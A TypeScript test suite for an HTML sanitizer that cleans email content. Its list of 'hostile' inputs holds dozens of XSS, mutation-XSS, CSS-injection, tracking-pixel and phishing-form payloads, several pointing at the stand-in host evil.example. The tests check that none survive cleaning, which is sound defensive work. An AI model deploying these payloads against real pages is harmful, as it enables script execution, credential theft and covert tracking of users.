// HTML that wants to run, to phone home, or to look like our own page.
import assert from 'node:assert/strict'
import test from 'node:test'
import { harmless, htmlPolicy } from './html.ts'

const hostile = [
  '<script>x()</script>', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>', '<scr<script>ipt>x()</scr</script>ipt>', '<img src=x onerror=x()>', '<img src="javascript:x()">', '<svg onload=x()>', '<svg><script>x()</script></svg>',
  '<body onload=x()>', '<a href="javascript:x()">a</a>', '<a href="JaVaScRiPt:x()">a</a>', '<a href="java&#10;script:x()">a</a>', '<a href="&#106;avascript:x()">a</a>', '<a href=" data:text/html,<script>x()</script>">a</a>',
  '<a href="vbscript:x()">a</a>', '<iframe src="https://evil.example"></iframe>', '<iframe srcdoc="<script>x()</script>"></iframe>', '<object data="https://evil.example"></object>', '<embed src="https://evil.example">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>', '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">', '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/p)}</style>', '<div style="background:url(https://evil.example/p)">x</div>',
  '<div style="background:u\\72l(https://evil.example/p)">x</div>', '<div style="width:expression(x())">x</div>', '<div style="-moz-binding:url(https://evil.example)">x</div>', '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh">Sign in again</div>',
  '<div style="behavior:url(#x)">x</div>', '<img src="https://evil.example/pixel.gif">', '<img srcset="https://evil.example/p 1x">', '<img src="//evil.example/p">', '<picture><source srcset="https://evil.example/p"><img src="cid:1"></picture>',
  '<video src="https://evil.example/v" poster="https://evil.example/p" onplay=x()></video>', '<audio src="https://evil.example/a"></audio>', '<table background="https://evil.example/p"><tr><td background="https://evil.example/p">x</td></tr></table>',
  '<input type=image src="https://evil.example/p">', '<math><mtext><table><mglyph><style><img src=x onerror=x()>', '<noscript><p title="</noscript><img src=x onerror=x()>">', '<template><script>x()</script></template>', '<xmp><img src=x onerror=x()></xmp>',
  '<textarea><script>x()</script></textarea>', '<title><img src=x onerror=x()></title>', '<!--[if IE]><script>x()</script><![endif]-->', '<![CDATA[<script>x()</script>]]>', '<img src="data:text/html;base64,PHNjcmlwdD4=">', '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<a href="https://ok.example" ping="https://evil.example" onclick=x()>a</a>', '<p onmouseover="x()" id="root" class="app" name="x">x</p>', '<portal src="https://evil.example"></portal>', '<marquee onstart=x()>x</marquee>', '<details open ontoggle=x()>x</details>',
  '<div style="color:red;}</style><script>x()</script>">x</div>', '<font face="x" style="font-family:\'</style><script>x()</script>\'">x</font>', '\u0000<script\u0000>x()</script>', '<img """><script>x()</script>">', '<<script>x();//<</script>',
]

test('nothing of it runs, loads or covers the page', () => {
  for (const bad of hostile) {
    const page = harmless(`<p>before</p>${bad}<p>after</p>`)
    const body = page.slice(page.indexOf('<body>'))
    const tags = (body.match(/<[^>]*>/g) ?? []).join('\n')
    assert.doesNotMatch(tags, /<(?:script|iframe|object|embed|form|input|button|meta|base|link|style|svg|math|video|audio|source|template|portal|noscript|textarea|marquee)\b/i, bad)
    assert.doesNotMatch(tags, /\son\w+\s*=|javascript:|vbscript:|data:text|svg\+xml|srcset|ping=|background=|\sid=|\sclass=|position|expression|behavior|binding|url\(/i, bad)
    assert.doesNotMatch(tags.replace(/<a [^>]*>/g, ''), /evil\.example/, bad)
    assert.match(body, /before/, bad)
  }
})

test('what makes a mail readable stays', () => {
  const page = harmless('<h2 style="color:#336699">Offer</h2><p>Hello <b>Sam</b>,<br>see <a href="https://acme.example/x">our page</a></p><ul><li>one</li></ul><table border="1"><tr><td style="padding:4px 8px">1</td></tr></table><blockquote>quoted</blockquote><img src="data:image/png;base64,AAAA" alt="x">')
  for (const good of ['color:#336699', '<b>Sam</b>', '<li>one</li>', 'padding:4px 8px', '<blockquote>', 'data:image/png;base64,AAAA', 'href="https://acme.example/x"', 'rel="noopener noreferrer"', 'title="acme.example"']) assert.ok(page.includes(good), good)
})

test('the policy lets nothing run and nothing load, whatever stands in the page', () => {
  assert.equal(htmlPolicy, "sandbox; default-src 'none'; img-src data:; style-src 'unsafe-inline'")
})

test('a huge page is cleaned in no time', () => {
  for (const page of ['<div>'.repeat(50_000), '<a href="'.repeat(20_000), '<p style="color:red;'.repeat(20_000), '&'.repeat(500_000)]) {
    const began = performance.now()
    harmless(page)
    assert.ok(performance.now() - began < 4000, `${page.slice(0, 12)}: ${Math.round(performance.now() - began)} ms`)
  }
})
